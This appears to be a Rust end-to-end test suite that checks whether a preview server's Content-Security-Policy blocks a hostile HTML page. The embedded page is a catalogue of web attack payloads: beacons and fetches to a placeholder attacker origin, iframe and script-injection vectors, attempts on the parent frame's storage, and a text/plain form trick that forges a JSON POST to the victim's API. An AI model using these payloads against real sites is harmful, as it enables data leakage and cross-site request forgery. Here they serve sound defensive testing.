//! A preview whose page is the attacker's own work, from its first byte to its last.
//!
//! The compiler is out of the game here: this is the page that someone gets served who has found a way around
//! it. What is left is the policy of the preview port, and it has to be enough.

use std::collections::BTreeSet;

use od_e2e::browser::{Chromium, Problem};

use crate::attacker::Attacker;
use crate::victim::Victim;

/// Everything a page can try, with and without script.
const PAGE: &str = r#"<!doctype html><html><head><title>Hostile</title>REFRESH
<link rel="stylesheet" href="EVIL/hit-style"><link rel="prefetch" href="EVIL/hit-prefetch"><link rel="manifest" href="EVIL/hit-manifest">
<style>@import url(EVIL/hit-import); @font-face { font-family: f; src: url(EVIL/hit-font) } p { font-family: f; background: url(EVIL/hit-css) }</style>
<script src="EVIL/hit-script"></script>
<script>
window.ran = 1; alert('ran'); fetch('EVIL/hit-fetch', { mode: 'no-cors' });
fetch('API/api/projects', { method: 'POST', mode: 'no-cors', body: '{"name":"pwned"}' });
try { top.document.title = 'pwned'; } catch { } try { parent.sessionStorage.clear(); } catch { }
try { window.open('EVIL/hit-popup'); } catch { } navigator.sendBeacon('EVIL/hit-beacon', 'x');
</script></head>
<body onload="window.ran = 2"><h1>Hostile</h1><p>text</p>
<img src="EVIL/hit-image" alt=""><img src="x:" alt="" onerror="window.ran = 3; new Image().src = 'EVIL/hit-onerror'">
<img srcset="EVIL/hit-srcset 1x" alt=""><picture><source srcset="EVIL/hit-source"><img src="data:," alt=""></picture>
<svg onload="window.ran = 4"><script>window.ran = 5</script><image href="EVIL/hit-svg"/><use href="EVIL/hit-use#x"/></svg>
<iframe src="EVIL/hit-frame"></iframe><iframe src="javascript:parent.ran = 6"></iframe><iframe srcdoc="<script>parent.ran = 7</script>"></iframe>
<iframe src="API/api/health"></iframe><img src="API/icon.svg" alt="">
<object data="EVIL/hit-object"></object><embed src="EVIL/hit-embed">
<video src="EVIL/hit-video" poster="EVIL/hit-poster" autoplay></video><audio src="EVIL/hit-audio" autoplay></audio>
<input type="image" src="EVIL/hit-input" alt=""><input autofocus onfocus="window.ran = 8">
<form id="f" action="API/api/projects" method="post" enctype="text/plain"><input name='{"name":"pwned","x":"' value='"}'></form><script>f.submit()</script>
</body></html>"#;

fn page(attacker: &Attacker, victim: &Victim, refresh: bool) -> String {
    let refresh = if refresh {
        "<meta http-equiv=\"refresh\" content=\"0;url=EVIL/hit-refresh\">"
    } else {
        ""
    };
    let api = format!("http://{}", victim.api());
    PAGE.replace("REFRESH", refresh).replace("EVIL", &attacker.origin()).replace("API", &api)
}

/// What the page was seen to try, in the browser's words: the directives that stopped it, and `script` if
/// the sandbox did.
fn tried(problems: &[Problem]) -> BTreeSet<String> {
    let of = |problem: &Problem| match problem {
        Problem::Console(text) if text.contains("Blocked script execution") => {
            Some("script".to_owned())
        }
        Problem::Console(text) => {
            let kinds = ["image", "stylesheet", "font", "plugin", "media", "manifest"];
            let is_frame = text.contains("Framing ");
            let kind = kinds.iter().find(|kind| {
                text.to_lowercase().contains(&format!("the {kind}"))
                    || text.to_lowercase().contains(&format!("loading {kind}"))
            });
            kind.map(|kind| (*kind).to_owned()).or_else(|| is_frame.then(|| "frame".to_owned()))
        }
        Problem::Exception(_) | Problem::Network(_) => None,
    };
    problems.iter().filter_map(of).collect()
}

#[test]
fn a_hostile_page_tries_everything_and_gets_nothing() {
    let victim = Victim::start();
    let attacker = Attacker::serve("", None);
    let page = page(&attacker, &victim, true);
    // A page that lies on the disk and was drawn by no compiler is not served: it is drawn anew.
    let (id, url) = victim.ticket_of_hostile_page(&page);
    let planted = victim.preview(&url);
    assert!(!planted.contains("Hostile"), "{planted}");
    // So it comes from another server, under exactly the head that the preview port sends.
    let sent = victim.preview(&victim.ticket());
    let (head, _) = sent.split_once("\r\n\r\n").unwrap();
    assert!(head.to_lowercase().contains("content-security-policy"), "{head}");
    let kept: Vec<&str> = head
        .split("\r\n")
        .filter(|line| !line.to_lowercase().starts_with("content-length"))
        .collect();
    let stand_in = Attacker::serve("", None);
    let length = format!("Content-Length: {}\r\nConnection: close", page.len());
    let url = stand_in.put("/hostile", format!("{}\r\n{length}\r\n\r\n{page}", kept.join("\r\n")));
    let before = victim.state();
    victim.while_browsing(async {
        let browser = Chromium::start().await;
        // In a tab of its own, where the browser says what was stopped.
        let tab = browser.bare_tab().await;
        tab.open(&url).await;
        tab.until("document.readyState === 'complete' && document.querySelector('h1').innerText === 'Hostile'").await;
        let wanted = ["script", "image", "stylesheet", "media", "plugin", "frame"];
        tab.until_problems(|seen| wanted.iter().all(|it| tried(seen).contains(*it))).await;
        assert_eq!(tab.run("[typeof window.ran, document.title, origin].join()").await, "undefined,Hostile,null");
        assert_eq!(tab.dialogs(), Vec::<String>::new());
        // And where a person meets the planted one: the console says that it is damaged.
        let console = browser.tab().await;
        console.follow(&victim.console()).await;
        console.until("document.querySelector('.link.live')").await;
        console.run(&format!("void (location.hash = {:?})", victim.place(&id))).await;
        console.sees("Not healthy").await;
        assert_eq!(console.run("[typeof window.ran, document.title.includes('pwned')].join()").await, "undefined,false");
        assert_eq!(console.dialogs(), Vec::<String>::new());
        browser.stop().await;
    });
    assert_eq!(attacker.hits(), Vec::<String>::new(), "the page reached nobody");
    assert_eq!(victim.state(), before, "nothing has changed");
    victim.stop();
}

/// The control: without the preview port's policy the very same page runs and reaches out.
#[test]
fn the_same_page_without_the_policy_runs_and_reaches_out() {
    let victim = Victim::start();
    let attacker = Attacker::serve("", None);
    let url = attacker.put("/bare", page(&attacker, &victim, false).replace("f.submit()", ""));
    let before = victim.state();
    victim.while_browsing(async {
        let browser = Chromium::start().await;
        let tab = browser.tab().await;
        tab.open(&url).await;
        tab.until("document.readyState === 'complete' && window.ran >= 1").await;
        assert!(tab.dialogs().contains(&"ran".to_owned()), "{:?}", tab.dialogs());
        for path in [
            "/hit-image",
            "/hit-style",
            "/hit-script",
            "/hit-fetch",
            "/hit-frame",
            "/hit-css",
            "/hit-onerror",
        ] {
            attacker.is_asked_for(path).await;
        }
        browser.stop().await;
    });
    // Even this page, free to do what it likes, changes nothing: the guard is in front of the API.
    assert_eq!(victim.state(), before, "nothing has changed");
    victim.stop();
}
